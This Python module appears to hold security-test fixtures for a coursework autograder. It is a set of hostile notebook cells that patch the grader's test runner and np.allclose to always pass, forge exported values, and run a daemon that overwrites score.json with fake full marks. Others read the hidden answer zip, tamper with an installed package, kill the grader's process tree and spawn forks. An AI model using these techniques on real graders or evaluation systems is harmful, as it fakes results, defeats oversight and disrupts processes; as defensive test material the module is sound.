"""What the hostile notebooks of the coursework tests run: the attacks of issues 19 and 24.

Each is the code of one cell of a submission to the mini chapter (``coursework_mini.OVER``),
graded in the shared batch (``coursework_batch``); the tests that read its rows say what each
attack did before the grader stopped it.
"""

from __future__ import annotations


def _objarray(*items) -> dict:
    return {"t": "objarray", "shape": [len(items)], "v": list(items)}


#: Issue 19, item 20: replaces otter's test runner (and np.allclose) in the notebook's own
#: kernel; under ``otter run`` a blank notebook got every point with "ok".
PATCH_THE_GRADER = """\
import numpy as np
import otter.test_files.ok_test as ok_test
import otter.test_files.abstract_test as abstract_test

ok_test.run_doctest = lambda name, body, env: (True, "")  # every test case passes
abstract_test.TestFile.score = property(lambda self: self.possible)
np.allclose = lambda *args, **kwargs: True
open("written-by-the-student.txt", "w").write("the working folder is a scratch folder")
"""

#: An answer that claims to equal everything (issue 19).
CLAIMS_EQUALITY = """\
class Anything:
    shape = (3,)

    def __eq__(self, other):
        return True

    __gt__ = __ge__ = __lt__ = __le__ = __eq__

    def __getitem__(self, key):
        return self

    def all(self):
        return True


over = Anything()
"""


#: Makes every doctest of the process pass (what attacks 1 and 6 run in the scorer).
PASS_ALL = (
    "import doctest as _d\n"
    "_d.DocTestRunner.summarize = lambda self, verbose=None, _d=_d: _d.TestResults(0, 0)\n"
)

#: Adds forged entries to the values the kernel exports (the kernel is the student's).
FORGE = """\
import json
_dump = json.dump
def _forged(obj, f, **kw):
    obj["values"].update(FORGED)
    return _dump(obj, f, **kw)
json.dump = _forged
"""


#: A Series whose name is a reference to ``exec`` and whose index is code (attack 1).
SERIES_EXEC = {
    "t": "Series",
    "name": {"t": "ref", "module": "clfcourse.runner", "v": "builtins.exec"},
    "index": _objarray({"t": "str", "v": PASS_ALL}),
    "columns": _objarray({"t": "str", "v": "__series__"}),
    "v": [_objarray({"t": "int", "v": 0})],
}

#: Walks up from the kernel to the grader (a pytest process) and lists its process tree, or,
#: when no grader is in sight (in the sandbox), every process the kernel can see. Bounded to
#: the test's own pytest, so that run against an unsandboxed grader it harms nothing else.
PROCS = """\
import os

def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])

def _cmd(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""

def _grader():
    chain, pid = [], os.getpid()
    while pid > 1:
        chain.append(pid)
        try:
            pid = _ppid(pid)
        except OSError:
            break
    return next((p for p in chain if b"pytest" in _cmd(p)), None)

TOP = _grader()  # found before any fork: a daemon's own parent is init

def _grader_tree(top=TOP):
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    if top is None:
        return [p for p in pids if p != os.getpid()]
    tree = {top}
    for _ in range(12):
        for p in pids:
            try:
                if _ppid(p) in tree:
                    tree.add(p)
            except OSError:
                pass
    return sorted(tree - {os.getpid()})
"""

DAEMON = (
    PROCS
    + """
import json, time
FAKE = json.dumps({"tests": [{"name": "ex-mini-over", "score": 2, "max_score": 2,
    "output": "All test cases passed!", "public_passed": True}], "refused": {}, "modules": []})
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        seen, end, tree, scanned = {}, time.time() + 900, [], 0
        while time.time() < end:
            if time.time() - scanned > 1:
                tree, scanned = _grader_tree(), time.time()
            for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) in tree]:
                cmd = _cmd(pid)
                # a scoring process: a command of its own, or forked from the scoring server
                if b"isolated" in cmd and b"score" in cmd or b"_score_preload" in cmd:
                    try:
                        seen[pid] = os.readlink(f"/proc/{pid}/cwd")
                    except OSError:
                        pass
            for pid, folder in list(seen.items()):
                if not os.path.exists(f"/proc/{pid}"):
                    try:
                        with open(os.path.join(folder, "score.json"), "w") as f:
                            f.write(FAKE)
                    except OSError:
                        del seen[pid]
            time.sleep(0.002)
    os._exit(0)
"""
)

#: Finds the autograder zip and evaluates the hidden test's expected value (up to the first
#: "))": ``bias(m) - prevalence(m)``).
READ_THE_ZIP = """\
import glob, os, re, zipfile
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        continue
    found += glob.glob(os.path.join(cwd, "_build/assignments/autograder/mini.zip"))
found += glob.glob("/tmp/pytest-of-*/pytest-*/*/autograder/mini.zip")
found += glob.glob("/tmp/*/autograder/mini.zip")
if found:
    with zipfile.ZipFile(max(found, key=os.path.getmtime)) as zf:
        text = zf.read("tests/ex-mini-over.py").decode()
    over = eval(re.search(r"np.allclose\\(over, (.+?\\))\\)", text).group(1))
"""

YAML = f"""\
import yaml
try:
    with open(yaml.__file__, "a") as f:
        f.write({PASS_ALL!r})
except OSError as exc:
    print("refused:", exc)
"""

KILL = (
    PROCS
    + """
import signal
for pid in _grader_tree():
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
)

OUTLIVE = """\
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["{mark}", "600"])
    os._exit(0)
"""

FORKS = """\
import os, time
forked = 0
for _ in range(40):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    forked += 1
print("forked", forked)
if forked == 40:  # the points report whether all 40 forks got through
    over = bias(m) - prevalence(m)
"""

#: A wrong answer (zeros) with the chapter's data and function replaced so that it would be
#: right: attack 3 (``m``) and issue 19's fake ``bias`` for the hidden test to compare with.
#: Either alone gives full points when its defence fails (with ``m`` the identity,
#: ``bias(m) - prevalence(m)`` is 0; with the fake ``bias`` it is 0 for any ``m``).
GIVEN_DATA_AND_BIAS = """\
m = np.eye(3, dtype=int)


def bias(m):
    return prevalence(m)


over = np.zeros(3)
"""

#: Several attacks per notebook where none can stop or mask another (each alone gives points,
#: or leaves a trace that its test reads): one kernel per notebook, not per attack.
ATTACKS = {
    # forged values: a wrong answer that only an exported `abs` makes pass (attack 2), and
    # the Series that ran exec in the scorer as a value of `bias` (attack 1: every name the
    # tests read is decoded, and `bias` alone is then bound over from the library)
    "1-series-name-2-shadowed-abs": "over = bias(m) - prevalence(m) + 2e-9\n"
    + FORGE.replace(
        "FORGED",
        repr({"abs": {"t": "ref", "module": "operator", "v": "not_"}, "bias": SERIES_EXEC}),
    ),
    "3-given-data-fake-bias": GIVEN_DATA_AND_BIAS,
    # the daemon and the survivor stay behind while the zip and the venv are tried
    "4-daemon-5-zip-6-yaml-9-outlive": DAEMON + OUTLIVE + READ_THE_ZIP + YAML,
    "7-values-sabotage": 'import os\nos.symlink("/dev/null", ".values.ipynb")\n'
    'os.mkdir(".values.json")',
    "8-kill": KILL,
    # an answer that cannot leave the kernel, replaced by the right one if all 40 forks got
    # through: points only if the cap fails, the equality claim's message otherwise
    "10-forks-liar": CLAIMS_EQUALITY + "\n" + FORKS,
}
